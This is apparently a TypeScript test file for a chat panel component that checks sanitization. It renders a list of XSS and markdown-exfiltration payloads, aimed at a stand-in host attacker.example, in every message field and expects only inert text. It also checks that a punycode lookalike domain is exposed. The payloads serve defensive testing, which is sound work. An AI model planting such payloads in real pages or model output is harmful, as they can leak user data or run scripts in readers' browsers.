import { act, render } from "@testing-library/react";
import { afterEach, beforeEach, expect, test, vi } from "vitest";
import { ChatPanel } from "../../src/index.js";
import { createMessage, type Message, type MessagePart } from "../../src/protocol/message.js";
import { createTestChat } from "../helpers/chat.js";
import { answer } from "../helpers/openai.js";
import { rows } from "../helpers/panel.js";

const host = "https://attacker.example";

/** Texts by which a model can be made to act on the page of its reader. */
const hostile = [
  `![x](${host}/?q=secret)`,
  `[x](${host}/?q=secret)`,
  `<img src="${host}/a.png" onerror="alert(1)">`,
  `<picture><source srcset="${host}/a.png"><img></picture>`,
  `<video poster="${host}/a.png"><source src="${host}/a.mp4"></video>`,
  `<svg><image href="${host}/a.svg"/></svg>`,
  `<link rel="prefetch" href="${host}/a">`,
  `<style>@import "${host}/a.css";</style>`,
  `<p style="background:url(${host}/a.png);position:fixed;inset:0" class="hw-send">x</p>`,
  `<iframe src="${host}"></iframe>`,
  `<form action="${host}"><input name="attributes"><input name="parentNode" id="body"></form>`,
  `<a href="javascript:alert(1)">x</a>`,
  `[x](javascript:alert(1))`,
  `[x](java&#x0A;script:alert(1))`,
  `[x](data:text/html,<script>alert(1)</script>)`,
  `<vbscript:alert(1)>`,
  `<script>alert(1)</script>`,
  `<base href="${host}/">`,
  `<meta http-equiv="refresh" content="0;url=${host}">`,
  `\u202Emoc.elpmaxe\u202C \u200Bpaypaӏ.com`,
  `|`,
  "```js\nalert(1)",
];

/** A message that carries a text in every place where words of a server may stand. */
function everywhere(text: string): Message {
  const parts: MessagePart[] = [
    { type: "text", text },
    { type: "reasoning", text },
    { type: "refusal", text },
    { type: "tool-call", toolCallId: text, name: text, arguments: text },
    { type: "tool-result", toolCallId: text, result: text },
    { type: "item", value: text, event: text, id: text },
    { type: "data", name: text, value: { [text]: text } },
    { type: "file", mediaType: text, url: text, name: text },
    { type: "file", mediaType: "image/png", url: `${host}/a.png`, name: text },
    { type: "file", mediaType: "image/svg+xml", url: `data:image/svg+xml,${text}`, name: text },
  ];
  const source = { id: text, kind: "web", title: text, url: `javascript:${text}`, snippet: text } as const;
  return createMessage("answer", "assistant", {
    parts,
    title: text,
    sources: [source, { id: "no title", kind: "web", url: `${host}/${text}` }],
    citations: [{ kind: "web", url: text, title: text, startIndex: 0, endIndex: 1 } as never],
    references: [{ kind: "web", text, title: text, url: text }],
    subqueries: [{ query: text, answer: text, sources: [source] }],
    stages: [
      {
        id: text,
        kind: text,
        status: "done",
        title: text,
        text,
        input: text,
        output: text,
        sources: [source],
      } as never,
    ],
    finishReason: text as never,
    adapter: text,
    model: text,
  });
}

const asked: string[] = [];

beforeEach(() => {
  asked.length = 0;
  vi.stubGlobal("alert", () => asked.push("alert"));
});

afterEach(() => {
  vi.unstubAllGlobals();
});

/** Everything below a node that names an address, a script or a look: what no text may make. Links of Markdown that lead out. */
function traces(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll("*")) {
    const outwards = "a[href^='https://'][rel='noopener noreferrer nofollow']";
    if (element.matches(`.hw-md a:not([href]), :is(.hw-md, .hw-sources) ${outwards}`)) continue;
    // What is listed has ids of ours, without a word of the text.
    if (element.matches("li") && /^[^\s]{3,9}-(?:source|cited|passage)-\d$/.test(element.id)) continue;
    if (
      /^(?:a|img|picture|source|video|audio|script|style|iframe|object|embed|base|link|meta|form|input)$/.test(
        element.localName,
      )
    )
      found.push(element.localName);
    for (const { name, value } of element.attributes)
      if (
        // Times that are measured here.
        !/^(?:--_\w+: [\d.]+%?; ?)*$/.test(`${value}; `.replace(/;; $/, ";")) &&
        /^(?:on|src|href|xlink|action|poster|style|srcset|formaction|background|name$|id$)/.test(name)
      )
        found.push(`${element.localName}[${name}]`);
  }
  return found;
}

test.for(hostile)("makes nothing but text and links that are told, wherever it stands: %s", (text) => {
  const { chat } = createTestChat(undefined, {
    messages: [createMessage("q", "user", { parts: [{ type: "text", text }] }), everywhere(text)],
  });
  render(<ChatPanel chat={chat} />);
  const [question, reply] = rows();
  expect(question!.textContent).toContain(text);
  expect(reply!.textContent).toContain(text);
  expect([...traces(question!), ...traces(reply!)]).toEqual([]);
  expect(asked).toEqual([]);
});

test.for(hostile)("makes nothing but text and links that are told in any state of a stream: %s", async (text) => {
  const { chat } = createTestChat(() => ({ chunks: answer(...text.split("")) }));
  const seen = new Set<string>();
  const { container } = render(<ChatPanel chat={chat} />);
  chat.store.subscribe(() => {
    const row = container.querySelectorAll("article")[1];
    if (row) for (const trace of traces(row)) seen.add(trace);
  });
  await act(async () => void (await chat.send("Hello")));
  // Marks of Markdown are gone, the words are not.
  for (const word of text.replace(/\]\(.*|\(.*|```/s, "").match(/[\w.]{2,}/g) ?? []) {
    expect(rows()[1]!.textContent).toContain(word);
  }
  expect([...seen, ...traces(rows()[1]!)]).toEqual([]);
});

test("the address of a source is shown with its real host, also when the name beside it lies", () => {
  const { chat } = createTestChat(undefined, {
    messages: [
      createMessage("a", "assistant", {
        sources: [{ id: "1", kind: "web", title: "apple.com", url: "https://xn--80ak6aa92e.com/login" }],
        parts: [{ type: "text", text: "Log in" }],
      }),
    ],
  });
  render(<ChatPanel chat={chat} />);
  expect(rows()[0]!.querySelector(".hw-sources li")).toHaveTextContent("apple.com (xn--80ak6aa92e.com)");
  expect(rows()[0]!.querySelector("a")).toHaveAttribute("data-host", "xn--80ak6aa92e.com");
});
